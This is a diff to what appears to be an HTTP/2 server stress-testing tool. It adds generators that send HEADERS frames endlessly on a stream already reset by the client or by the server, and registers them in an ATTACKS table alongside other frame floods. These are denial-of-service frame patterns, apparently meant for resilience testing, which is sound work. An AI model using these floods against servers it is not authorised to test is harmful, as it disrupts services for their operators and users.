@@ -125,6 +125,12 @@ def on_a_closed_stream(frame: bytes) -> Iterator[bytes]:
     yield from forever(frame)
 
 
+def headers_on_a_closed_stream(*, reset_by_server: bool) -> Iterator[bytes]:
+    fault = raw.window_update(1, 0) if reset_by_server else raw.rst_stream(1)
+    yield raw.headers(1, _request("/echo", "POST"), end_stream=False) + fault
+    yield from forever(raw.headers(1, _request()))
+
+
 def new_settings() -> Iterator[bytes]:
     """65,536 settings that nobody knows, again and again."""
     for start in itertools.cycle(range(0, 65536, 2000)):
@@ -180,6 +186,12 @@ ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
     "empty-data": partial(on_a_stream, raw.data(1, end=False)),
     "data-of-padding": partial(on_a_stream, raw.data(1, end=False, pad=10)),
     "data-on-a-closed-stream": partial(on_a_closed_stream, raw.data(1, b"x", end=False)),
+    "headers-on-a-stream-reset-by-client": partial(
+        headers_on_a_closed_stream, reset_by_server=False
+    ),
+    "headers-on-a-stream-reset-by-server": partial(
+        headers_on_a_closed_stream, reset_by_server=True
+    ),
     "unknown-frames": partial(forever, _UNKNOWN_FRAME),
     "priority-update": partial(forever, _PRIORITY_UPDATE),
 }
